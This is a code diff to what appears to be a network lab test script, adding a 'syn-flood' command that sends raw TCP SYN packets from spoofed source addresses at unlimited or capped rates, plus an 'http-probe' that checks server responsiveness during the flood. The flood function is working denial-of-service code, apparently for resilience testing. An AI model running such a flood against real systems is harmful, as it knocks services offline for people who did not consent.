@@ -14,6 +14,15 @@
   lab-servers.py dns-query SERVER NAME [tcp]
                                         asks SERVER:53 for NAME's A records (UDP, or TCP);
                                         prints the addresses, or "no answer"
+  lab-servers.py syn-flood DEST COUNT SECONDS SOURCES [RATE]
+                                        COUNT raw TCP SYNs (IPv4) to DEST on random ports,
+                                        from random addresses of SOURCES (a.b.c.X-Y, spoofed:
+                                        nobody answers their SYN-ACKs) and random source
+                                        ports, at most RATE a second (default: as fast as it
+                                        can), for at most SECONDS; prints "sent N in T s"
+  lab-servers.py http-probe HOST COUNT GAP
+                                        COUNT sequential GET /small (2 s each at most, GAP s
+                                        apart); prints "ok N of COUNT, slowest T s"
   lab-servers.py dns-load SERVER PREFIX COUNT OUT
                                         asks SERVER:53 for PREFIX0.test ... PREFIX<COUNT-1>.test
                                         (A, UDP, one at a time, 60 s at most) and writes
@@ -466,6 +475,69 @@ def dns_load(server, prefix, count, out_path):
             out.flush()
 
 
+def syn_flood(destination, count, seconds, sources, rate="0"):
+    import random
+    import struct
+    prefix, span = sources.rsplit(".", 1)
+    low, high = (int(x) for x in span.split("-"))
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dst = socket.inet_aton(destination)
+    deadline = time.monotonic() + float(seconds)
+    started = time.monotonic()
+    sent = 0
+
+    def checksum(data):
+        total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+        total = (total >> 16) + (total & 0xFFFF)
+        total += total >> 16
+        return ~total & 0xFFFF
+
+    rate = float(rate)
+    for i in range(int(count)):
+        if i % 100 == 0:
+            now = time.monotonic()
+            if now > deadline:
+                break
+            if rate > 0 and i / rate > now - started:
+                time.sleep(i / rate - (now - started))
+        src = socket.inet_aton("%s.%d" % (prefix, random.randint(low, high)))
+        sport, dport = random.randint(1024, 65535), random.randint(1, 65535)
+        tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
+        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, src, dst)
+        try:
+            s.sendto(ip + tcp, (destination, 0))
+            sent += 1
+        except OSError:
+            time.sleep(0.001)  # a full socket buffer: let the queue drain
+    print("sent %d in %.2f s" % (sent, time.monotonic() - started))
+
+
+def http_probe(host, count, gap):
+    ok = 0
+    slowest = 0.0
+    for _ in range(int(count)):
+        started = time.monotonic()
+        try:
+            with socket.create_connection((host, 80), timeout=2) as c:
+                c.settimeout(2)
+                c.sendall(b"GET /small HTTP/1.0\r\nHost: lab\r\n\r\n")
+                data = b""
+                while True:
+                    chunk = c.recv(4096)
+                    if not chunk:
+                        break
+                    data += chunk
+                if data.endswith(b"\r\n\r\nok\n"):
+                    ok += 1
+        except OSError:
+            pass
+        slowest = max(slowest, time.monotonic() - started)
+        time.sleep(float(gap))
+    print("ok %d of %s, slowest %.2f s" % (ok, count, slowest))
+
+
 if __name__ == "__main__":
     command, args = sys.argv[1], sys.argv[2:]
     {
@@ -476,6 +548,8 @@ if __name__ == "__main__":
         "tcp-many": tcp_many,
         "dns-query": dns_query,
         "dns-load": dns_load,
+        "syn-flood": syn_flood,
+        "http-probe": http_probe,
         "udp-twice": udp_twice,
         "udp-source": udp_source,
         "silent": silent,
